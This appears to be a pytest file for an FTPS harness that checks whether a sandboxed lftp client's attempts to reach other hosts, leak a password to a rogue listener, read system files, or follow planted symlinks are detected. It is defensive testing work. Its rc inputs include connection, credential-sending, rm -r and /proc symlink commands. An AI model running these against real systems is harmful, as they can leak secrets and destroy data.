"""Scenarios in the sealed place: real names and addresses, and every attempt to go elsewhere is recorded."""

from __future__ import annotations

import contextlib
import re
from pathlib import Path
from typing import TYPE_CHECKING, NoReturn

import pytest
from tests.harness.play.sabotage import ACCEPTED, NO_CONTROL, ONLY_LIST, REJECTED

from ftps_harness.errors import HarnessError
from ftps_harness.play.places import choice as places
from ftps_harness.play.places.loopback import Loopback
from ftps_harness.play.places.sealed import Sealed, SealedPlaces
from ftps_harness.play.runner import Options, run_in, run_scenario
from ftps_harness.sandbox.sandbox import Sandbox, Unavailable
from ftps_harness.scenario import parse

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.harness.conftest import Play

    from ftps_harness.client.lftp import Lftp
    from ftps_harness.play.runner import ScenarioResult, StepResult

pytestmark = [pytest.mark.lftp, pytest.mark.usefixtures("sealed_here")]

LISTENER = (
    "!/usr/bin/python3 -c \"import socket; s = socket.create_server(('127.0.0.1', {at})); "
    "c = socket.create_connection(s.getsockname()); a, _ = s.accept(); c.sendall(b'{sent}'); a.recv(99)\"\n"
)


def only_step(result: ScenarioResult) -> StepResult:
    (step,) = result.steps
    return step


class TestLedElsewhere:
    """An rc leads the client to another server, which on a real network would have received something."""

    @pytest.mark.parametrize(
        ("line", "wanted"),
        [
            ('set cmd:at-exit "open -u me,pw ftp://198.51.100.9; ls"', "198.51.100.9 port 21 by tcp"),
            ("open -u me,pw ftp://198.51.100.9; ls", "198.51.100.9 port 21 by tcp"),
            ("open -u me,pw -p 2121 ftp://192.0.2.66; ls", "192.0.2.66 port 2121 by tcp"),
            ("!/usr/bin/python3 -c \"import socket; socket.socket().connect_ex(('203.0.113.5', 80))\"", "203.0.113.5"),
            ("!getent hosts tell.everybody.example", "the address of 'tell.everybody.example'"),
        ],
        ids=["at-exit", "open", "port", "shell", "name"],
    )
    def test_connection_elsewhere_is_never_a_refusal(self, play: Play, sealed: Sealed, line: str, wanted: str) -> None:
        quick = "set net:max-retries 1; set net:reconnect-interval-base 1\n"
        step = play.step(REJECTED, rc=f"{quick}{line}", keys=ONLY_LIST + NO_CONTROL)
        result = only_step(play(step, place=sealed))
        assert result.status == "error"
        assert result.attempts[0].outcome.verdict != "rejected"
        assert any(wanted in phrase for phrase in result.attempts[0].exposure.elsewhere.tried)

    @pytest.mark.parametrize(
        "line",
        ["set dns:name/* 192.0.2.9", "set ftp:proxy ftp://192.0.2.9:3128", "set ftp:proxy http://192.0.2.9:3128"],
        ids=["dns", "ftp-proxy", "http-proxy"],
    )
    def test_setting_that_leads_elsewhere_is_never_accepted(self, play: Play, sealed: Sealed, line: str) -> None:
        step = play.step(ACCEPTED, rc=play.pin + line + "\n", keys=ONLY_LIST + NO_CONTROL)
        result = only_step(play(step, place=sealed, timeout=8))
        assert result.status == "error"
        assert any("192.0.2.9" in phrase for phrase in result.attempts[0].exposure.elsewhere.tried)

    def test_connection_to_another_listener_is_inconclusive(self, play: Play, sealed: Sealed) -> None:
        rc = play.pin + LISTENER.replace("{at}", "4444").replace("{sent}", "hello")
        result = only_step(play(play.step(ACCEPTED, rc=rc, keys=ONLY_LIST + NO_CONTROL), place=sealed))
        assert result.attempts[0].outcome.verdict == "inconclusive"
        (phrase,) = result.attempts[0].exposure.elsewhere.reached
        assert phrase == "127.0.0.1 port 4444 by tcp, 5 bytes sent"

    @pytest.mark.parametrize(
        "sent", ["USER me\\r\\nPASS my own password\\r\\n", "QVVUSCBwYXNz"], ids=["pass", "nothing"]
    )
    def test_password_sent_to_another_listener_is_exposed(self, play: Play, sealed: Sealed, sent: str) -> None:
        rc = play.pin + LISTENER.replace("{at}", "4445").replace("{sent}", sent)
        result = only_step(play(play.step(ACCEPTED, rc=rc, keys=ONLY_LIST + NO_CONTROL), place=sealed))
        assert ("password" in result.attempts[0].outcome.exposed) is ("PASS" in sent)
        assert result.status in {"fail", "error"}

    def test_loopback_does_not_see_connections_elsewhere(self, play: Play) -> None:
        """This is why the sealed place is the default."""
        rc = play.pin + LISTENER.replace("{at}", "4446").replace("{sent}", "hello")
        result = only_step(play(play.step(ACCEPTED, rc=rc, keys=ONLY_LIST + NO_CONTROL), place=Loopback()))
        assert result.attempts[0].outcome.verdict == "accepted"


class TestEnvironment:
    def test_step_and_control_look_the_same_from_inside(self, play: Play, sealed: Sealed) -> None:
        """Paths, environment, processes, mounts and the content of /tmp are the same: only the certificate differs."""
        look = "!pwd; env; ls -lA /tmp /tmp/ftps-lab/*; cat /etc/hosts /proc/mounts; ps -eo pid,comm; echo END"
        result = only_step(play(play.step(ACCEPTED, rc=f"{play.pin}{look}\n", keys=ONLY_LIST), place=sealed))
        assert result.status == "pass"
        assert result.control is not None
        step, control = (made.run.stdout.partition(b"END\n") for made in (*result.attempts, result.control.attempt))
        assert step[1]
        assert step[0] == control[0]
        assert b"HOME=/tmp/ftps-lab/home\n" in step[0]

    def test_mark_left_by_a_step_is_absent_in_its_control(self, play: Play, sealed: Sealed) -> None:
        """The setup trusts every certificate unless it finds its mark."""
        mark = "!for at in /tmp /dev/shm /var/tmp /run; do touch $at/been; done 2>/dev/null\n"
        sneaky = "!ls /tmp/been /dev/shm/been /var/tmp/been /run/been >/dev/null 2>&1\n"
        rc = f"set ssl:verify-certificate no\n{sneaky}{mark}"
        result = only_step(play(play.step(ACCEPTED, rc=rc, keys=ONLY_LIST), place=sealed))
        assert result.control is not None
        assert result.control.attempt.outcome.verdict == "exposed"
        assert result.status == "fail"

    @pytest.mark.parametrize(
        "host",
        [
            "192.0.2.77",
            "10.0.0.1",
            "::1",
            "2001:db8::77",
            "2001:DB8:0:0::77",
            "::ffff:192.0.2.77",
            "0.0.0.0",  # noqa: S104 - the host that lftp is told
            "backup.example",
            "localhost",
        ],
    )
    def test_any_host_name_or_address_can_be_the_lab(self, client: Lftp, sealed: Sealed, host: str) -> None:
        scenario = f"""
schema = 1
title = "t"
why = "w"
[certificates.genuine]
common_name = "{host}"
names = ["{host}"]
[server]
certificate = "genuine"
[[step]]
title = "it"
host = "{host}"
files = {{ "mycert.crt" = "cert:genuine" }}
rc = 'set ssl:ca-file "{{lftp}}/mycert.crt"'
run = ["list", "get"]
[step.expect]
verdict = "accepted"
"""
        result = run_scenario(parse(scenario, "x.scenario.toml", "a/x"), client, Options(), sealed)
        assert result.status == "pass", [step.why for step in result.steps]

    def test_hosts_of_a_scenario_have_their_own_addresses(self, play: Play, sealed: Sealed) -> None:
        off = "set ssl:verify-certificate no\n"
        accepting = NO_CONTROL + ONLY_LIST
        steps = [
            play.step(ACCEPTED, rc=off, keys=f'host = "{host}"' + accepting, title=f"{number}")
            for number, host in enumerate(("192.0.2.1", "192.0.2.2", "a.example", "192.0.2.1"))
        ]
        result = play(*steps, place=sealed)
        assert result.status == "pass"
        connected = [re.search(rb"Connecting to \S+ \((\S+)\)", step.attempts[0].run.log) for step in result.steps]
        assert [found and found[1] for found in connected] == [b"192.0.2.1", b"192.0.2.2", b"127.0.0.1", b"192.0.2.1"]

    def test_host_of_another_step_is_not_the_lab(self, play: Play, sealed: Sealed) -> None:
        """On a real network, another host need not be the same server."""
        first = play.step(
            ACCEPTED, rc="set ssl:verify-certificate no\n", keys='host = "a.example"\n' + NO_CONTROL, title="a"
        )
        rc = "set ssl:verify-certificate no\nset net:max-retries 1\nopen ftp://a.example; ls\n"
        second = play.step(ACCEPTED, rc=rc, keys='host = "b.example"\n' + NO_CONTROL, title="b")
        _, result = play(first, second, place=sealed).steps
        assert result.attempts[0].exposure.elsewhere.tried == ("the address of 'a.example'",)
        assert result.attempts[0].outcome.verdict != "accepted"

    def test_unknown_host_name_does_not_resolve(self, play: Play, sealed: Sealed) -> None:
        """The look-up is recorded, and lftp gives up at once."""
        look = "!/usr/bin/python3 -c 'import socket; socket.getaddrinfo(\"nobody.example\", 21)'\n"
        result = only_step(play(play.step(REJECTED, rc=look, keys=ONLY_LIST + NO_CONTROL), place=sealed))
        assert b"Name or service not known" in result.attempts[0].run.stderr
        assert result.attempts[0].exposure.elsewhere.tried == ("the address of 'nobody.example'",)

    def test_system_rc_is_empty(self, client: Lftp) -> None:
        """An empty file is mounted over it, whether or not we can read it."""
        if not Path("/etc/lftp.conf").exists():
            pytest.skip("this machine has no /etc/lftp.conf")
        with Sealed([client.path]) as place:
            assert place.prefix() == ()
            assert place.parent is not None
            (place.parent / "look").mkdir()
            sandbox: Sandbox = place._sandbox
            done = sandbox.run(["/bin/cat", "/etc/lftp.conf"], env={}, cwd=Path("/"), timeout=20, folder="look")
        assert (done.exit_code, done.stdout) == (0, b"")


class TestPlaces:
    def test_places_are_reused_but_never_shared(self, client: Lftp) -> None:
        with SealedPlaces([client.path]) as several:
            with several.lend() as first, several.lend() as second:
                assert first is not second
            with several.lend() as third:
                assert third in (first, second)

    def test_place_is_not_reused_after_an_exception(self, client: Lftp) -> None:
        with SealedPlaces([client.path]) as several:
            with pytest.raises(ZeroDivisionError), several.lend() as first:
                raise ZeroDivisionError
            with several.lend() as second:
                assert second is not first

    def test_place_of_a_broken_scenario_is_not_reused(
        self, client: Lftp, play: Play, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """A server that did not stop, say, would disturb the next scenario. The other scenarios continue."""
        scenario = play.scenario(play.step('verdict = "accepted"'))
        options = Options(timeout=20, controls=False)
        used: list[object] = []
        with SealedPlaces([client.path]) as several:
            lend = several.lend

            @contextlib.contextmanager
            def noted() -> Iterator[Sealed]:
                with lend() as place:
                    used.append(place)
                    yield place

            monkeypatch.setattr(several, "lend", noted)
            assert run_in(several, scenario, client, options).status == "pass"
            with monkeypatch.context() as broken:
                broken.setattr("ftps_harness.play.session.populate", None)
                assert run_in(several, scenario, client, options).status == "error"
            assert run_in(several, scenario, client, options).status == "pass"
        assert used[0] is used[1]
        assert used[2] is not used[1]

    def test_place_that_cannot_be_made_is_an_error_of_its_scenario(self, client: Lftp, play: Play) -> None:
        class Nowhere:
            def lend(self) -> NoReturn:
                raise HarnessError("the sandbox did not start")

        scenario = play.scenario(play.step('verdict = "accepted"'))
        result = run_in(Nowhere(), scenario, client, Options())
        assert (result.status, result.why) == ("error", "the sandbox did not start")

    def test_auto_falls_back_to_loopback_with_a_note(self, client: Lftp, monkeypatch: pytest.MonkeyPatch) -> None:
        def refuse(*_: object, **__: object) -> None:
            raise Unavailable("the kernel does not permit it: ask for it")

        monkeypatch.setattr("ftps_harness.play.places.sealed.Sandbox", refuse)
        with places.choose("auto", [client.path]) as chosen:
            assert chosen.name == "loopback"
            assert "are not seen (the kernel does not permit it: ask for it)" in chosen.note
            with chosen.places.lend() as place:
                assert isinstance(place, Loopback)
        with pytest.raises(Unavailable), places.choose("sealed", [client.path]):
            pass

    def test_closed_places_leave_no_files(self, client: Lftp, nothing_left: Path) -> None:
        with places.choose("sealed", [client.path]) as chosen, chosen.places.lend():
            assert list(nothing_left.iterdir())


class TestOutput:
    """A received listing counts wherever lftp puts it; missing it would turn an exposure into a refusal."""

    @pytest.mark.parametrize("where", ["tmp/out", "dev/shm/out", "tmp/ftps-lab/uploads/out", "tmp/a/b/out"])
    def test_listing_from_an_impostor_is_an_exposure_wherever_written(
        self, play: Play, sealed: Sealed, where: str
    ) -> None:
        rc = "set ssl:verify-certificate no\n!mkdir -p /tmp/a/b\n"
        step = play.step('verdict = "exposed"', rc=rc, keys=f"run = ['ls > /{where}']\n")
        result = only_step(play(step, server='attack = "intercept"\n', place=sealed))
        assert {"payload", "password"} <= result.attempts[0].outcome.exposed
        assert result.attempts[0].client.holds_payload

    def test_each_run_starts_with_an_empty_tmp(self, play: Play, sealed: Sealed) -> None:
        rc = play.pin + "!ls -A /tmp /dev/shm; touch /tmp/been /dev/shm/been\n"
        result = only_step(play(play.step(ACCEPTED, rc=rc, keys=ONLY_LIST + "\nrepeat = 3"), place=sealed))
        assert result.status == "pass"
        assert result.control is not None
        for made in (*result.attempts, result.control.attempt):
            assert made.run.stdout.startswith(b"/dev/shm:\n\n/tmp:\nftps-lab\n")


class TestAliases:
    """An alias in the rc turns a command into nothing, or into another one."""

    @pytest.mark.parametrize(
        ("alias", "command"),
        [
            ('alias put "command echo"', "put ~/.lftp/mycert.crt"),
            ('alias rm "command echo"', "rm nothing"),
            ('alias mkdir "command echo"', "mkdir folder"),
            ('alias get "command echo"', "get nothing"),
        ],
    )
    def test_command_never_received_by_the_server_is_not_done(
        self, play: Play, sealed: Sealed, alias: str, command: str
    ) -> None:
        step = play.step(ACCEPTED, rc=f"{play.pin}{alias}\n", keys=f"run = ['list', '{command}']" + NO_CONTROL)
        result = only_step(play(step, place=sealed))
        assert result.status == "fail"
        assert result.attempts[0].outcome.verdict == "failed"

    @pytest.mark.parametrize("sink", ["> /dev/null", "> /dev/full"])
    def test_discarded_listing_of_a_stranger_does_not_pass(self, play: Play, sealed: Sealed, sink: str) -> None:
        rc = "set ssl:verify-certificate/127.0.0.1 no\nset ftp:ssl-allow-anonymous yes\n"
        run = f"run = ['open -u anonymous,lftp@ 127.0.0.1; ls {sink}', 'close -a; open {{host}}; ls']"
        step = play.step(REJECTED, rc=rc, keys=f'user = "anonymous"\n{run}' + NO_CONTROL)
        # lftp never stops writing to /dev/full.
        result = only_step(play(step, server='role = "impostor"\n', place=sealed, timeout=5.0))
        assert result.status in {"fail", "error"}


class TestLinks:
    """Links that a program leaves in HOME lead to other places outside the sandbox: the lab follows none."""

    @pytest.mark.parametrize("where", ["~/.lftp", "~/../downloads", "~/../uploads", "~/../log", "~/../tmp", "~/../shm"])
    def test_link_to_a_folder_of_this_machine_changes_nothing_there(
        self, play: Play, sealed: Sealed, where: str, tmp_path: Path
    ) -> None:
        (tmp_path / "deep").mkdir()
        victims = [tmp_path / name for name in ("mycert.crt", "deep/file", "lftp.log")]
        for victim in victims:
            victim.write_text("keep")
        leave = f"!rm -r {where}; ln -s {tmp_path} {where}; true"
        first = play.step(ACCEPTED, keys=f"run = {['list', leave]!r}{NO_CONTROL}", title="one")
        second = play.step(ACCEPTED, keys=ONLY_LIST + NO_CONTROL, title="two")
        play(first, second, place=sealed)
        assert [victim.read_text() for victim in victims] == ["keep"] * 3
        assert sorted(path.name for path in tmp_path.iterdir()) == ["deep", "lftp.log", "mycert.crt"]

    @pytest.mark.parametrize("name", [".lftprc", ".netrc", ".lftp/log"])
    def test_file_of_this_machine_is_not_in_the_evidence(
        self, play: Play, sealed: Sealed, name: str, tmp_path: Path
    ) -> None:
        (tmp_path / "private").write_text("echo a secret of this machine\n")
        leave = f"!ln -s {tmp_path}/private ~/{name}"
        first = play.step(ACCEPTED, keys=f"run = {['list', leave]!r}{NO_CONTROL}", title="one")
        second = play.step(ACCEPTED, keys=ONLY_LIST + NO_CONTROL, title="two")
        for step in play(first, second, place=sealed).steps:
            (attempt,) = step.attempts
            assert attempt.start_up == {}
            assert b"secret of this machine" not in attempt.run.stderr

    def test_link_to_the_kernels_files_is_not_read(self, play: Play, sealed: Sealed) -> None:
        leave = "!ln -s /proc/kmsg ~/x; ln -s /proc/kcore ~/y; ln -s /proc/self/mem ~/z"
        result = play(play.step(ACCEPTED, keys=f"run = {['list', leave]!r}{NO_CONTROL}"), place=sealed)
        assert only_step(result).status == "pass"


class TestReplacedFiles:
    """A program can put anything in place of the lab's own files: opening a FIFO, say, would wait forever."""

    @pytest.mark.parametrize("kind", ["mkfifo", "ln -s /dev/zero", "mkdir"])
    @pytest.mark.parametrize("name", ["lftp.log", "*.marks"])
    def test_fifo_link_or_folder_in_place_of_our_files_is_not_read(
        self, play: Play, sealed: Sealed, name: str, kind: str
    ) -> None:
        replace = f"!cd ~/../log; for f in {name}; do rm $f; {kind} $f; done"
        result = play(play.step(ACCEPTED, keys=f"run = {['ls', replace]!r}{NO_CONTROL}"), place=sealed)
        assert result.status in {"fail", "error"}
        assert only_step(result).attempts[0].outcome.verdict in {"failed", "inconclusive"}
